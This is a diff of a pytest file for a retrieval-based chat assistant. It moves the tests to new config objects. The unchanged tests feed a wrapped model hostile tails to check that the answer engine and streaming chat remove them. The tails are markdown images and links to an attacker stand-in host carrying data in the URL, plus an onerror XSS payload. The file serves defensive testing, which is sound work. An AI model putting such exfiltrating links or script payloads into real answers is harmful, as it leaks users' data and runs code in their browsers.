@@ -15,7 +15,7 @@ import re
 
 import pytest
 
-from assistant.core.answer import AnswerEngine
+from assistant.core.answer import AnswerConfig, AnswerEngine
 from assistant.core.llm import build_chat_model
 from assistant.core.prompts import render
 from assistant.core.safety import urls_in
@@ -117,7 +117,7 @@ def cited(text: str) -> set[int]:
 def test_real_model_answer_is_checked(real_model_settings, bundled_runtime, question, mode, stage):
     settings = real_model_settings
     model = Misbehaving(build_chat_model(settings), tail="")
-    engine = AnswerEngine(settings, bundled_runtime.retriever, bundled_runtime.embedder, model)
+    engine = AnswerEngine(AnswerConfig.from_settings(settings), bundled_runtime.retriever, bundled_runtime.embedder, model)
     answer = engine.answer(question, mode=mode, stage=stage)
     assert model.calls == 1  # the engine asked the real model (what it wrote may even be empty)
     assert answer.backend.startswith(f"openai:local@{settings.llm_base_url}")  # "+extractive" when it fell back
@@ -137,7 +137,7 @@ def test_real_model_answer_with_bad_additions_is_cleaned(real_model_settings, bu
         f" ![bilde](http://{EVIL}/p.png?d=hemmelig) [klikk her](http://{EVIL}/) https://{EVIL}/raw [1]\n\n{leak}\n"
     )
     model = Misbehaving(build_chat_model(settings), tail=tail)
-    engine = AnswerEngine(settings, bundled_runtime.retriever, bundled_runtime.embedder, model)
+    engine = AnswerEngine(AnswerConfig.from_settings(settings), bundled_runtime.retriever, bundled_runtime.embedder, model)
     answer = engine.answer(question, mode=mode, stage=stage)
     assert model.calls == 1 and model.raw.endswith(tail)
     assert len(answer.retrieved) < 9
@@ -152,14 +152,14 @@ def test_real_model_answer_with_bad_additions_is_cleaned(real_model_settings, bu
 def test_streamed_text_in_the_chat_is_made_safe_too(real_model_settings, bundled_runtime, tmp_path, question, mode, stage):
     """The chat shows the model's text while it streams. What the browser renders then must not
     load an image or offer a link either: the check afterwards comes too late for that."""
-    from assistant.app.chat import ChatService
+    from assistant.app.chat import ChatConfig, ChatService
     from assistant.app.journal import Journal
 
     settings = real_model_settings.model_copy(update={"data_dir": tmp_path})
     tail = f" ![bilde](http://{EVIL}/p.png?d=hemmelig) [klikk](http://{EVIL}/) <img src=x onerror=alert(1)> [1]"
     model = Misbehaving(build_chat_model(settings), tail=tail)
-    engine = AnswerEngine(settings, bundled_runtime.retriever, bundled_runtime.embedder, model)
-    service = ChatService(settings, bundled_runtime, engine, Journal(tmp_path / "journal.sqlite3"))
+    engine = AnswerEngine(AnswerConfig.from_settings(settings), bundled_runtime.retriever, bundled_runtime.embedder, model)
+    service = ChatService(ChatConfig.from_settings(settings), bundled_runtime, engine, Journal(tmp_path / "journal.sqlite3"))
     cid = service.start("kari", "qa").conversation_id
     turns = list(service.send("kari", cid, question))
     assert len(turns) >= 2 and turns[-1].answer is not None
@@ -186,7 +186,8 @@ def test_a_real_models_answer_is_verified_text_or_the_material_with_a_note(real_
     from evals.metrics import unsupported_shown
 
     settings = real_model_settings
-    engine = AnswerEngine(settings, bundled_runtime.retriever, bundled_runtime.embedder, build_chat_model(settings))
+    model = build_chat_model(settings)
+    engine = AnswerEngine(AnswerConfig.from_settings(settings), bundled_runtime.retriever, bundled_runtime.embedder, model)
     answer = engine.answer(question)
     assert answer.error is None and answer.verified_share is not None
     if answer.fallback:
